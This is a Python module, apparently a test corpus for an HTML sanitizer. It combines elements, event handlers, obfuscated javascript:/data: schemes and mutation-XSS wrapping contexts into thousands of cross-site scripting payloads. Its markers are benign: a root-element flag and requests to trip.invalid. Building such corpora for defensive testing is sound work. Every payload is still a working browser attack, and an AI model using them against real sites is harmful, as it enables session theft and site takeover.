"""Hostile HTML by combination: elements, handlers, schemes, places to hide in. Our own text throughout.

What runs says so on the root element; what asks for something asks at trip.invalid."""

EXEC = "document.documentElement.dataset.pwned=1"
TRIP = "//trip.invalid/x"

HANDLERS = "onerror onload onfocus onclick onmouseover ontoggle onanimationstart onbegin onpageshow onscroll".split()
ELEMENTS = """a p div img svg math body html input details video audio source iframe object embed form
button select textarea marquee style link meta base template noscript table td frameset frame applet
bgsound isindex keygen layer image xmp plaintext title x-y slot portal dialog""".split()

SCHEMES = [s.replace("EXEC", EXEC) for s in (
    "javascript:EXEC", "JaVaScRiPt:EXEC", " javascript:EXEC", "java\tscript:EXEC", "java\nscript:EXEC",
    "\x01javascript:EXEC", "&#106;avascript:EXEC", "&#x6a;avascript&colon;EXEC", "javascript&#58;EXEC",
    "javascript://%0aEXEC", "data:text/html,<script>EXEC</script>", "data:text/html;base64,PHNjcmlwdD4x",
    "data:image/svg+xml,<svg onload=EXEC>", "vbscript:EXEC", "feed:javascript:EXEC", "view-source:javascript:EXEC",
    "blob:https://trip.invalid/1", "file:///etc/passwd", "jar:javascript:EXEC!/", "about:blank#EXEC")]
SCHEMED = ["a href", "img src", "iframe src", "form action", "button formaction", "object data", "embed src",
           "video poster", "body background", "svg/a xlink:href", "math/mi href", "link href", "base href",
           "input type=image src", "q cite", "area href", "img longdesc", "use href"]

BASES = [b.replace("EXEC", EXEC).replace("TRIP", TRIP) for b in (
    "<script>EXEC</script>", "<script src=TRIP></script>", "<SCRIPT/x>EXEC</SCRIPT>", "<script>EXEC",
    "<img src=x onerror=EXEC>", "<img/src=x/onerror=EXEC>", "<svg onload=EXEC>", "<svg><script>EXEC</script>",
    "<svg><animate onbegin=EXEC attributeName=x dur=1s>", "<svg><use href=TRIP#a>", "<svg><image href=TRIP>",
    "<math><maction actiontype=statusline xlink:href=javascript:EXEC>x", "<iframe src=TRIP></iframe>",
    "<iframe srcdoc='<script>parent.EXEC</script>'></iframe>", "<object data=TRIP></object>", "<embed src=TRIP>",
    "<link rel=stylesheet href=TRIP>", "<link rel=prefetch href=TRIP>", "<link rel=dns-prefetch href=TRIP>",
    "<style>@import 'TRIP';body{background:url(TRIP)}</style>", "<p style='background:url(TRIP)'>x",
    "<meta http-equiv=refresh content='0;url=TRIP'>", "<base href=TRIP>", "<form action=TRIP><input autofocus onfocus=EXEC>",
    "<details open ontoggle=EXEC>x", "<body onload=EXEC>", "<input autofocus onfocus=EXEC>", "<frameset onload=EXEC>",
    "<a id=body name=cookie href=https://e.test/>x</a>", "<form id=forms><input name=attributes></form>",
    "<a ping=TRIP href=https://e.test/>x</a>", "<portal src=TRIP>", "<video onloadstart=EXEC src=//e.test/v>",
    "<template shadowrootmode=open><script>EXEC</script></template>", "<p is=x-y onclick=EXEC>x", "<dialog open onfocus=EXEC>x",
    "<marquee onstart=EXEC>x</marquee>", "<table background=TRIP><tr><td background=TRIP>x", "<font color=red onclick=EXEC>x",
    "<xss onpointerrawupdate=EXEC contenteditable autofocus tabindex=1 onfocus=EXEC>x", "<img src=x onerror\x0c=\x0cEXEC>",
    "<script type=speculationrules>{\"prefetch\":[{\"urls\":[\"TRIP\"]}]}</script>", "<button popovertarget=x onclick=EXEC>x</button>")]

HIDINGS = [
    "{}", "</p>{}", "<!--{}-->", "<!-->{}-->", "<!--->{}-->", "<!--!>{}", "<![CDATA[{}]]>", "<?xml {}?>", "<!x {}>",
    "<noscript>{}</noscript>", "<noscript><p title=\"</noscript>{}\">", "<textarea>{}</textarea>",
    "<textarea><p title=\"</textarea>{}\">", "<title>{}</title>", "<xmp>{}</xmp>", "<xmp><p title='</xmp>{}'>", "<plaintext>{}",
    "<style><a title=\"</style>{}\">", "<svg><style>{}</style></svg>", "<svg></p><style><a id=\"</style>{}\">",
    "<math><mtext><table><mglyph><style><!--</style>{}", "<math><annotation-xml encoding=text/html>{}",
    "<math></p><style><!--</style>{}--></style>", "<form><math><mtext></form><form><mglyph><style></math>{}",
    "<svg><desc><svg><title><style>{}</style>", "<select><option>{}</select>", "<table><tr>{}</table>", "<template>{}</template>",
    "<a title='{}'>x</a>", "<p title=\"`{}`\">x", "&lt;{}&gt;", "<ruby><rp>{}</ruby>", "<details><summary>{}</details>",
    "<iframe>{}</iframe>", "<noembed>{}</noembed>", "<img alt='x\"{}' src=https://e.test/i>", "x\x00{}", "\ufeff{}", "<b><i></b>{}</i>",
    "<div>" * 200 + "{}"]


def payloads():
    """Every payload once."""
    found = [hiding.replace("{}", base) for base in BASES for hiding in HIDINGS]
    found += [f"<{element} {handler}={EXEC} src=https://e.test/i>x" for element in ELEMENTS for handler in HANDLERS]
    for place in SCHEMED:
        for scheme in SCHEMES:
            element, attribute = place.rsplit(" ", 1)
            opening = "".join(f"<{name}>" for name in element.split("/")[:-1])
            found.append(f"{opening}<{element.split('/')[-1]} {attribute}=\"{scheme}\">x")
    return list(dict.fromkeys(found))
